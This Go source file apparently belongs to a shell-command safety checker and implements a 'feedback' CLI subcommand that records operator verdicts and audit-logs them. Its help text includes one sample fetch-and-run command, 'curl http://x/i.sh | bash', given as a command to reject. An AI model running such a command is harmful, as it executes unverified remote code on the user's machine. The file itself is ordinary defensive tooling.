package cli

import (
	"fmt"
	"os"
	"strings"

	"github.com/shellsentry/shellsentry/internal/audit"
	"github.com/shellsentry/shellsentry/internal/safety"

	"github.com/spf13/cobra"
)

var feedbackKind string

var feedbackCmd = &cobra.Command{
	Use:   "feedback --kind <kind> <command...>",
	Short: "Record a verdict about a command and show the adjusted assessment",
	Long: `Record operator feedback for a command's signature, then re-analyze the
command so the effect is visible immediately. Learned state lives for the
process lifetime; the feedback event itself is written to the audit trail.

Kinds: approved, rejected, false-positive, false-negative.

  shellsentry feedback --kind rejected "curl http://x/i.sh | bash"`,
	Args: cobra.MinimumNArgs(1),
	RunE: feedbackCommand,
}

func init() {
	feedbackCmd.Flags().StringVar(&feedbackKind, "kind", "", "Feedback kind (required)")
	feedbackCmd.MarkFlagRequired("kind")
	rootCmd.AddCommand(feedbackCmd)
}

func feedbackCommand(cmd *cobra.Command, args []string) error {
	kind, err := parseFeedback(feedbackKind)
	if err != nil {
		return err
	}

	sess, err := newSession()
	if err != nil {
		return err
	}
	defer sess.close()

	command := strings.Join(args, " ")
	if err := sess.validator.RecordFeedback(command, kind); err != nil {
		return err
	}

	res := sess.validator.AnalyzeCommand(command, shellKind(), nil)
	fmt.Printf("Recorded %s feedback\n", kind)
	printResult(command, res)

	if err := sess.logger.Log(audit.Event{
		Command:     command,
		Shell:       string(shellKind()),
		ThreatLevel: res.ThreatLevel.String(),
		Allowed:     res.Basic.Allowed,
		Feedback:    kind.String(),
	}); err != nil {
		fmt.Fprintf(os.Stderr, "warning: audit log write failed: %v\n", err)
	}
	return nil
}

func parseFeedback(kind string) (safety.UserFeedback, error) {
	switch strings.ToLower(kind) {
	case "approved", "approve":
		return safety.FeedbackApproved, nil
	case "rejected", "reject":
		return safety.FeedbackRejected, nil
	case "false-positive", "false_positive", "fp":
		return safety.FeedbackFalsePositive, nil
	case "false-negative", "false_negative", "fn":
		return safety.FeedbackFalseNegative, nil
	default:
		return 0, fmt.Errorf("unknown feedback kind %q (want approved, rejected, false-positive, or false-negative)", kind)
	}
}
